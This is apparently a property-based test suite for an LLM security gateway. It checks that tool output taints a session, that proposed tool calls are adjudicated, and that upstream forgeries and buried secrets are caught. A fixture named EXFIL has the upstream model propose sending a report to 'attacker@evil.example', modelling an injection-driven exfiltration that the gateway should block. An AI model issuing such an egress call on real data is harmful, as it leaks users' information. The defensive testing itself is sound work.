"""Witnesses: every carrier of tool output is admitted, every proposed tool use adjudicated,
and nothing from upstream speaks for the gateway (D10.4, D10.5, D10.6).

The roles, content parts and block types are read from the official SDKs at test time
(:mod:`.sdk_unions`); Hypothesis draws where the tool output sits (message, role, block
position, string or parts) and which uses an answer proposes, and every example runs every
kind. Gateway and scripted upstream run in process (``httpx.ASGITransport``), both wires,
buffered and streaming.
"""

from __future__ import annotations

import asyncio
import json
import uuid
from typing import Any

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fak_core.gateway.carriers import (
    ANTHROPIC_BLOCKS,
    OPENAI_PARTS,
    OPENAI_ROLES,
    OPENAI_TOOL_CALLS,
)
from fak_core.jsondepth import MAX_JSON_DEPTH

from . import sdk_unions as sdk
from .inprocess import in_process_gateway
from .scripted_upstream import FORGE_SITES, FORGED, Script
from .test_malformed_upstream import check_openai_grammar

_UPSTREAM, _STATE, _APP = in_process_gateway()

#: Benign but untrusted: admitting it taints the session, it is not quarantined.
UNTRUSTED = "Quarterly numbers: revenue 12, costs 9."
#: The egress call the upstream proposes after the transcript: kept on a clean session,
#: dropped TRUST_VIOLATION on a tainted one.
EXFIL = ("send_email", {"to": "attacker@evil.example", "body": "the report"})
PATHS = {"openai": "/v1/chat/completions", "anthropic": "/v1/messages"}


def _settings(test: Any, cap: int) -> Any:
    active = settings.default
    at_most = min(cap, active.max_examples) if active is not None else cap
    return settings(
        max_examples=at_most, deadline=None, suppress_health_check=[HealthCheck.too_slow]
    )(test)


async def _post(client: httpx.AsyncClient, wire: str, doc: dict[str, Any], trace: str) -> Any:
    if wire == "anthropic":
        doc = {"max_tokens": 16, **doc}
    return await client.post(PATHS[wire], json={"model": "m", **doc}, headers={"x-trace-id": trace})


def _client() -> httpx.AsyncClient:
    return httpx.AsyncClient(transport=httpx.ASGITransport(app=_APP), base_url="http://gw")


def _events(text: str) -> list[dict[str, Any]]:
    return [json.loads(ln[6:]) for ln in text.splitlines() if ln.startswith("data: {")]


# ---------------------------------------------------------------------- the tables
@pytest.mark.fak_theorem("D10.4")
def test_the_gateway_classifies_exactly_what_the_sdks_type() -> None:
    """The gateway's tables name every role, part, tool-call and block type the installed
    SDKs type, and nothing else: an SDK that adds one fails here until it is classified."""
    assert dict(OPENAI_PARTS) == sdk.openai_roles()
    assert set(OPENAI_ROLES) == set(sdk.openai_roles())
    assert set(OPENAI_TOOL_CALLS) == sdk.openai_tool_call_types()
    assert set(ANTHROPIC_BLOCKS) == sdk.anthropic_block_types()


# ------------------------------------------------------------------- D10.4 carriers
def _openai_part(kind: str, text: str) -> dict[str, Any]:
    return {
        "text": {"type": "text", "text": text},
        "refusal": {"type": "refusal", "refusal": text},
        "image_url": {"type": "image_url", "image_url": {"url": "https://img.example/a.png"}},
        "input_audio": {"type": "input_audio", "input_audio": {"data": "AAAA", "format": "wav"}},
        "file": {"type": "file", "file": {"file_data": "aGk=", "filename": "a.txt"}},
    }[kind]


def _openai_message(role: str, text: str, as_parts: bool) -> dict[str, Any]:
    parts = sorted(sdk.openai_roles()[role])
    content: Any = text
    if as_parts and parts:  # the text part last, after one of every other part the role takes
        content = [_openai_part(k, "x") for k in parts if k != "text"]
        content.append(_openai_part("text", text) if "text" in parts else content.pop())
    m: dict[str, Any] = {"role": role, "content": content}
    if role == "tool":
        m["tool_call_id"] = "c1"
    if role == "function":
        m["name"] = "web_search"
    return m


def _anthropic_block(kind: str, text: str, as_parts: bool) -> dict[str, Any]:
    inner: Any = [{"type": "text", "text": text}] if as_parts else text
    if kind in sdk.anthropic_tool_use_blocks():
        block = {"type": kind, "id": "srvtoolu_h1", "name": "web_search", "input": {"q": text}}
        return {**block, "server_name": "srv"} if kind == "mcp_tool_use" else block
    if kind == "search_result":
        return {"type": kind, "source": "https://s.example", "title": "t", "content": inner}
    if kind == "mcp_tool_listing":
        return {
            "type": kind,
            "mcp_server_name": "srv",
            "tools": [{"name": "x", "description": text}],
        }
    if kind in sdk.anthropic_tool_output_blocks():
        return {"type": kind, "tool_use_id": "srvtoolu_h1", "content": inner}
    plain: dict[str, dict[str, Any]] = {
        "text": {"text": text},
        "thinking": {"thinking": text, "signature": "sig"},
        "redacted_thinking": {"data": "opaque"},
        "document": {"source": {"type": "text", "media_type": "text/plain", "data": text}},
        "image": {"source": {"type": "url", "url": "https://img.example/a.png"}},
        "container_upload": {"file_id": "file_1"},
        "compaction": {"content": text},
    }
    return {"type": kind, **plain.get(kind, {})}


LAYOUT = st.fixed_dictionaries(
    {
        "before": st.integers(0, 3),  # plain messages before the carrier's message
        "after": st.integers(0, 2),  # and after it
        "slot": st.integers(0, 3),  # the carrier's position among its message's blocks
        "role": st.sampled_from(["user", "assistant"]),  # the Anthropic carrier's role
        "as_parts": st.booleans(),
        "stream": st.booleans(),
    }
)


def _openai_transcript(role: str, layout: dict[str, Any]) -> list[dict[str, Any]]:
    pad = [{"role": "user", "content": f"note {i}"} for i in range(layout["before"])]
    tail = [{"role": "user", "content": f"more {i}"} for i in range(layout["after"])]
    return [*pad, _openai_message(role, UNTRUSTED, layout["as_parts"]), *tail]


def _anthropic_transcript(kind: str, layout: dict[str, Any]) -> list[dict[str, Any]]:
    blocks: list[dict[str, Any]] = [{"type": "text", "text": f"t{i}"} for i in range(3)]
    blocks.insert(layout["slot"], _anthropic_block(kind, UNTRUSTED, layout["as_parts"]))
    pad = [{"role": "user", "content": f"note {i}"} for i in range(layout["before"])]
    tail = [{"role": "user", "content": f"more {i}"} for i in range(layout["after"])]
    return [*pad, {"role": layout["role"], "content": blocks}, *tail]


def _egress_kept(wire: str, stream: bool, text: str) -> bool:
    """Whether the client received the proposed egress call."""
    if not stream:
        doc = json.loads(text)
        if wire == "openai":
            return bool(doc["choices"][0]["message"].get("tool_calls"))
        return any(b["type"] == "tool_use" for b in doc["content"])
    for e in _events(text):
        if wire == "openai" and any(c["delta"].get("tool_calls") for c in e["choices"]):
            return True
        if wire == "anthropic" and e.get("content_block", {}).get("type") == "tool_use":
            return True
    return False


async def _carrier_turns(layout: dict[str, Any]) -> list[tuple[str, str, int, str, bool, str]]:
    """Every role and block type the SDKs type, each in the drawn layout, on a fresh
    trace: (wire, kind, status, taint label, egress kept, body)."""
    turns = [("openai", r, _openai_transcript(r, layout)) for r in sorted(sdk.openai_roles())]
    turns += [
        ("anthropic", k, _anthropic_transcript(k, layout))
        for k in sorted(sdk.anthropic_block_types())
    ]
    out = []
    async with _client() as client:
        for wire, kind, messages in turns:
            trace = f"carrier-{uuid.uuid4().hex[:12]}"
            _UPSTREAM.reset(Script(text="ok", calls=[EXFIL]))
            doc = {"messages": messages, "stream": layout["stream"]}
            r = await _post(client, wire, doc, trace)
            label = _STATE.kernel.taint(trace).label
            kept = r.status_code == 200 and _egress_kept(wire, layout["stream"], r.text)
            out.append((wire, kind, r.status_code, label, kept, r.text))
    return out


def check_carriers(layout: dict[str, Any]) -> None:
    carriers = {
        "openai": sdk.openai_tool_output_roles(),
        "anthropic": sdk.anthropic_tool_output_blocks(),
    }
    for wire, kind, status, label, kept, body in asyncio.run(_carrier_turns(layout)):
        where = f"{wire} {kind!r} in {layout}"
        if status == 400:  # refusing a carrier is allowed; the refusal must name it
            assert kind in body, f"{where}: a 400 that does not name the carrier: {body}"
            continue
        assert status == 200, f"{where}: {status} {body[:300]}"
        if kind in carriers[wire]:
            assert label != "trusted", f"{where}: tool output left the session clean"
            assert not kept, f"{where}: the egress call survived an untrusted result"
        else:  # positive control: plain content and history never taint
            assert label == "trusted", f"{where}: plain content tainted the session"
            assert kept, f"{where}: the egress call was dropped on a clean session"


@pytest.mark.fak_theorem("D10.4")
def test_every_carrier_of_tool_output_taints_the_session() -> None:
    _settings(given(layout=LAYOUT)(check_carriers), 8)()


UNKNOWN = st.text("abcdefghijklmnopqrstuvwxyz_", min_size=2, max_size=12)


async def _unknown_turns(name: str) -> list[tuple[str, int, str, int]]:
    openai_role = [{"role": name, "content": UNTRUSTED}]
    openai_part = [{"role": "tool", "tool_call_id": "c1", "content": [{"type": name, "text": "x"}]}]
    anthropic_block = [{"role": "user", "content": [{"type": name, "content": UNTRUSTED}]}]
    out = []
    async with _client() as client:
        for wire, messages in (
            ("openai", openai_role),
            ("openai", openai_part),
            ("anthropic", anthropic_block),
        ):
            _UPSTREAM.reset(Script(text="ok"))
            r = await _post(client, wire, {"messages": messages}, f"unknown-{uuid.uuid4().hex}")
            out.append((wire, r.status_code, r.text, len(_UPSTREAM.requests)))
    return out


def check_unknown(name: str) -> None:
    known = set(sdk.openai_roles()) | sdk.anthropic_block_types()
    known |= {p for parts in sdk.openai_roles().values() for p in parts}
    if name in known:
        return
    for wire, status, body, sent in asyncio.run(_unknown_turns(name)):
        assert status == 400, f"{wire} {name!r}: {status} {body[:300]}"
        assert repr(name) in body, f"{wire}: the 400 does not name {name!r}: {body}"
        assert sent == 0, f"{wire} {name!r}: the turn went upstream"


@pytest.mark.fak_theorem("D10.4")
def test_unknown_roles_parts_and_blocks_are_refused_by_name() -> None:
    _settings(given(name=UNKNOWN)(check_unknown), 10)()


# ----------------------------------------------------------------- D10.5 tool uses
#: get_user is allowed and not a sink (kept even after an untrusted provider result);
#: web_search is no tool of the policy (DEFAULT_DENY); deny_thing is POLICY_BLOCK.
KEPT_NAME = "get_user"
USE_NAMES = st.sampled_from([KEPT_NAME, "web_search", "deny_thing"])
#: the result block type answering each provider-run use kind
_RESULT_OF = {"server_tool_use": "web_search_tool_result", "mcp_tool_use": "mcp_tool_result"}


def _proposals(uses: list[tuple[str, str, bool]]) -> list[dict[str, Any]]:
    """The answer's blocks: each use, and its result when the use is provider-run and drawn so."""
    blocks: list[dict[str, Any]] = []
    for i, (kind, name, with_result) in enumerate(uses):
        uid = f"{'toolu' if kind == 'tool_use' else 'srvtoolu'}_{i}"
        use = {"type": kind, "id": uid, "name": name, "input": {"id": i}}
        if kind == "mcp_tool_use":
            use["server_name"] = "srv"
        blocks.append(use)
        if kind in _RESULT_OF and with_result:
            content = [{"type": "text", "text": UNTRUSTED}]
            blocks.append({"type": _RESULT_OF[kind], "tool_use_id": uid, "content": content})
    return blocks


def _client_blocks(stream: bool, text: str) -> list[dict[str, Any]]:
    """The Anthropic blocks the client received; a stream's events are checked for
    dangling or reused indexes while they are reassembled."""
    if not stream:
        return list(json.loads(text)["content"])
    blocks: dict[int, dict[str, Any]] = {}
    open_: set[int] = set()
    for e in _events(text):
        if e["type"] == "content_block_start":
            i = e["index"]
            assert i == len(blocks), f"block index {i} out of order ({sorted(blocks)})"
            blocks[i] = dict(e["content_block"])
            open_.add(i)
        elif e["type"] == "content_block_delta":
            assert e["index"] in open_, f"a delta for block {e['index']}, which is not open"
            d = e["delta"]
            if d["type"] == "input_json_delta":
                blocks[e["index"]]["_json"] = (
                    blocks[e["index"]].get("_json", "") + d["partial_json"]
                )
        elif e["type"] == "content_block_stop":
            assert e["index"] in open_, f"a stop for block {e['index']}, which is not open"
            open_.discard(e["index"])
    assert not open_, f"blocks {sorted(open_)} never stopped"
    out = []
    for b in blocks.values():
        if "_json" in b:
            b["input"] = json.loads(b.pop("_json"))
        out.append(b)
    return out


def _fak_record(stream: bool, text: str) -> dict[str, Any]:
    if not stream:
        return dict(json.loads(text)["fak"])
    records = [e["fak"] for e in _events(text) if "fak" in e]
    assert len(records) == 1, f"{len(records)} fak records in the stream"
    return dict(records[0])


async def _one(wire: str, script: Script, stream: bool) -> tuple[int, str]:
    _UPSTREAM.reset(script)
    messages = [{"role": "user", "content": "go"}]
    async with _client() as client:
        r = await _post(
            client, wire, {"messages": messages, "stream": stream}, f"use-{uuid.uuid4().hex}"
        )
    return r.status_code, r.text


def check_anthropic_uses(uses: list[tuple[str, str, bool]], stream: bool) -> None:
    status, text = asyncio.run(_one("anthropic", Script(text="t", blocks=_proposals(uses)), stream))
    assert status == 200, text[:300]
    shown = _client_blocks(stream, text)
    use_kinds = sdk.anthropic_tool_use_blocks()
    seen = [b for b in shown if b["type"] in use_kinds]
    expected = [(k, n) for k, n, _ in uses if n == KEPT_NAME]
    assert [(b["type"], b["name"]) for b in seen] == expected, shown
    fak = _fak_record(stream, text)
    decided = {a["tool_call_id"]: a for a in fak["adjudications"]}
    assert len(fak["adjudications"]) == len(uses)  # every proposal was adjudicated
    kept_ids = set()
    for b in seen:
        assert decided[b["id"]]["admitted"] is True, (b, decided)
        assert b["input"] == {"id": int(b["id"].split("_")[-1])}
        kept_ids.add(b["id"])
    for b in shown:  # a provider's result is shown only beside the use it answers
        if "tool_use_id" in b:
            assert b["tool_use_id"] in kept_ids, (b, kept_ids)
    # ... and always beside a kept use, admitted (under that use's name) before the
    # uses were decided
    shown_results = {b["tool_use_id"] for b in shown if "tool_use_id" in b}
    results = fak["provider_result_admissions"]
    answered = [(i, k, n) for i, (k, n, r) in enumerate(uses) if k in _RESULT_OF and r]
    assert [(r["tool_call_id"], r["tool"]) for r in results] == [
        (f"srvtoolu_{i}", n) for i, _, n in answered
    ]
    assert all(r["verdict"].get("kind") for r in results), results
    assert shown_results == {f"srvtoolu_{i}" for i, _, n in answered if n == KEPT_NAME}


def check_openai_uses(name: str, custom: list[str], stream: bool) -> None:
    script = Script(text="t", function_call=(name, '{"id": 1}'))
    status, text = asyncio.run(_one("openai", script, stream))
    assert status == 200, text[:300]
    fak = _fak_record(stream, text)
    [legacy] = fak["adjudications"]
    if stream:
        calls = [
            c["delta"]["function_call"]
            for e in _events(text)
            for c in e["choices"]
            if "function_call" in c["delta"]
        ]
    else:
        fc = json.loads(text)["choices"][0]["message"].get("function_call")
        calls = [fc] if fc else []
    assert [c["name"] for c in calls] == ([name] if name == KEPT_NAME else [])
    assert legacy["admitted"] is (name == KEPT_NAME)
    if stream:
        kept = [name] if name == KEPT_NAME else []
        check_openai_grammar(text, kept, legacy=True)
        assert [json.loads(c["arguments"]) for c in calls] == [{"id": 1} for _ in kept]
        return
    # the other kind a chat answer may propose: custom tool calls (buffered on the wire)
    script = Script(custom_calls=[(n, '{"id": 2}') for n in custom])
    status, text = asyncio.run(_one("openai", script, stream))
    assert status == 200, text[:300]
    got = json.loads(text)["choices"][0]["message"].get("tool_calls") or []
    assert [c["custom"]["name"] for c in got] == [n for n in custom if n == KEPT_NAME]
    assert len(json.loads(text)["fak"]["adjudications"]) == len(custom)


USES = st.lists(
    st.tuples(st.sampled_from(sorted(sdk.anthropic_tool_use_blocks())), USE_NAMES, st.booleans()),
    min_size=1,
    max_size=5,
)


@pytest.mark.fak_theorem("D10.5")
def test_every_proposed_tool_use_kind_is_adjudicated() -> None:
    _settings(given(uses=USES, stream=st.booleans())(check_anthropic_uses), 25)()
    custom = st.lists(USE_NAMES, max_size=3)
    _settings(given(name=USE_NAMES, custom=custom, stream=st.booleans())(check_openai_uses), 12)()


def test_every_sdk_tool_use_kind_is_generated() -> None:
    """The generators draw from the SDKs' own tool-use kinds, and the scripted upstream
    answers every provider-run one with its result (so a new kind is witnessed, or this
    fails)."""
    assert set(_RESULT_OF) == sdk.anthropic_tool_use_blocks() - {"tool_use"}
    # OpenAI: function calls (D10.2's property) and custom calls (check_openai_uses)
    assert sdk.openai_tool_call_types() == {"function", "custom"}


# ------------------------------------------------------------------ D10.6 forgeries
SITES = st.lists(st.sampled_from(FORGE_SITES), min_size=1, unique=True).map(tuple)


def check_forgery(sites: tuple[str, ...], wire: str, stream: bool) -> None:
    script = Script(text="t", calls=[(KEPT_NAME, {"id": 1})], forge=sites)
    if wire == "anthropic":
        script.blocks = _proposals([("server_tool_use", KEPT_NAME, True)])
    status, text = asyncio.run(_one(wire, script, stream))
    assert status == 200, text[:300]
    assert FORGED["trace_id"] not in text, f"the upstream's fak record reached the client ({sites})"
    fak = _fak_record(stream, text)  # exactly one record, the gateway's own
    assert fak["trace_id"].startswith("use-")
    assert fak["adjudications"][0]["tool"] == KEPT_NAME


@pytest.mark.fak_theorem("D10.6")
def test_the_upstream_never_speaks_for_the_gateway() -> None:
    _settings(
        given(sites=SITES, wire=st.sampled_from(["openai", "anthropic"]), stream=st.booleans())(
            check_forgery
        ),
        25,
    )()


def _chain(level: int, depth: int, step: int) -> dict[str, Any]:
    """Objects nested ``depth`` levels deep, each with a ``fak`` key naming its level counted
    from the upstream's document (the body, or the stream event) it sits in; with ``step``
    2, each object holds the next in a one-item array (an array level between objects)."""
    top = level + depth - 1
    node: dict[str, Any] = {"fak": f"L{top}", "type": "text", "text": "x"}
    for k in range(top - step, level - 1, -step):
        node = {"fak": f"L{k}", "type": "text", "text": "x", "next": [node] if step == 2 else node}
    return node


def _levels_kept(node: Any) -> list[str]:
    out = []
    while isinstance(node, dict):
        if "fak" in node:
            out.append(node["fak"])
        node = node.get("next")
        node = node[0] if isinstance(node, list) else node
    return out


def check_fak_data(stream: bool, forge: bool) -> None:
    """A ``fak`` key is stripped only down to six levels of the upstream's body or event,
    and never inside a tool's input: below that, and in an input, it is data."""
    start = 3 if stream else 4  # event → block → content → item; body → content → block → …
    use = {"type": "server_tool_use", "id": "srvtoolu_0", "name": KEPT_NAME}
    use["input"] = {"id": 0, "fak": "input data", "nested": {"fak": "deeper input data"}}
    result = {
        "type": "web_search_tool_result",
        "tool_use_id": "srvtoolu_0",
        "content": [_chain(start, 9, 1), _chain(start, 9, 2)],
    }
    script = Script(text="t", blocks=[use, result], forge=("top", "block") if forge else ())
    status, text = asyncio.run(_one("anthropic", script, stream))
    assert status == 200, text[:300]
    shown = _client_blocks(stream, text)
    [got_use] = [b for b in shown if b["type"] == "server_tool_use"]
    assert got_use["input"] == use["input"]  # a tool's input is data, at any depth
    [got] = [b for b in shown if b["type"] == "web_search_tool_result"]
    assert "fak" not in got
    # objects and arrays count alike: levels 0 to 6 are searched, 7 and below are data
    assert _levels_kept(got["content"][0]) == [f"L{k}" for k in range(7, start + 9)]
    assert _levels_kept(got["content"][1]) == [f"L{k}" for k in range(start + 8, 6, -2)][::-1]
    assert FORGED["trace_id"] not in text
    _fak_record(stream, text)  # exactly one record, the gateway's own


@pytest.mark.fak_theorem("D10.6")
@pytest.mark.parametrize("forge", [False, True], ids=["honest", "forged"])
@pytest.mark.parametrize("stream", [False, True], ids=["buffered", "stream"])
def test_a_fak_key_that_is_data_reaches_the_client_unchanged(stream: bool, forge: bool) -> None:
    check_fak_data(stream, forge)


@pytest.mark.parametrize("value", [["text"], {"t": 1}, 3, None, True])
def test_a_role_or_type_that_is_not_a_string_is_a_400(value: Any) -> None:
    async def turns() -> list[int]:
        docs = [
            ("openai", [{"role": value, "content": "x"}]),
            ("openai", [{"role": "user", "content": [{"type": value, "text": "x"}]}]),
            ("anthropic", [{"role": value, "content": "x"}]),
            ("anthropic", [{"role": "user", "content": [{"type": value, "text": "x"}]}]),
        ]
        async with _client() as client:
            return [
                (await _post(client, wire, {"messages": m}, "nonstring")).status_code
                for wire, m in docs
            ]

    _UPSTREAM.reset(Script(text="ok"))
    assert asyncio.run(turns()) == [400, 400, 400, 400]
    assert _UPSTREAM.requests == []


@pytest.mark.parametrize("depth", [100, 300, 900])
@pytest.mark.parametrize("kind", ["tool_result", "web_fetch_tool_result"])
def test_deep_tool_output_is_screened_or_refused_never_a_500(kind: str, depth: int) -> None:
    """Deep tool output within the gateway's JSON depth limit is screened (its secret
    quarantined) and the rewritten body goes upstream; deeper output (orjson writes 254
    levels at most) is refused with a 400 naming the limit and never goes upstream."""
    deep = "[" * depth + '"AKIAIOSFODNN7EXAMPLE"' + "]" * depth
    body = (
        '{"model":"m","max_tokens":8,"messages":[{"role":"user","content":'
        f'[{{"type":"{kind}","tool_use_id":"a","content":{deep}}}]}}]}}'
    )
    trace = f"deep-{uuid.uuid4().hex[:10]}"

    async def turn() -> httpx.Response:
        async with _client() as client:
            headers = {"content-type": "application/json", "x-trace-id": trace}
            return await client.post(PATHS["anthropic"], content=body, headers=headers)

    _UPSTREAM.reset(Script(text="ok"))
    r = asyncio.run(turn())
    if depth + 5 > MAX_JSON_DEPTH:
        assert r.status_code == 400, r.text[:300]
        assert f"deeper than {MAX_JSON_DEPTH} levels" in r.text
        assert _UPSTREAM.requests == []
        return
    assert r.status_code == 200, r.text[:300]
    assert _STATE.kernel.taint(trace).label == "quarantined"
    assert b"AKIAIOSFODNN7EXAMPLE" not in _UPSTREAM.requests[-1].body


@pytest.mark.fak_theorem("D10.4")
@pytest.mark.parametrize("wire", ["openai", "anthropic"])
def test_what_a_text_part_carries_beside_its_text_is_screened(wire: str) -> None:
    """A secret in a text part's extra field was forwarded unscreened (only the text was
    read); now the whole part is screened, and quarantined."""
    part = {"type": "text", "text": "x", "note": "AKIAIOSFODNN7EXAMPLE"}
    if wire == "openai":
        messages = [{"role": "tool", "tool_call_id": "a", "content": [part]}]
    else:
        messages = [
            {
                "role": "user",
                "content": [{"type": "tool_result", "tool_use_id": "a", "content": [part]}],
            }
        ]
    trace = f"extra-{uuid.uuid4().hex[:10]}"

    async def turn() -> httpx.Response:
        async with _client() as client:
            return await _post(client, wire, {"messages": messages}, trace)

    _UPSTREAM.reset(Script(text="ok"))
    assert asyncio.run(turn()).status_code == 200
    assert _STATE.kernel.taint(trace).label == "quarantined"
    assert b"AKIAIOSFODNN7EXAMPLE" not in _UPSTREAM.requests[-1].body
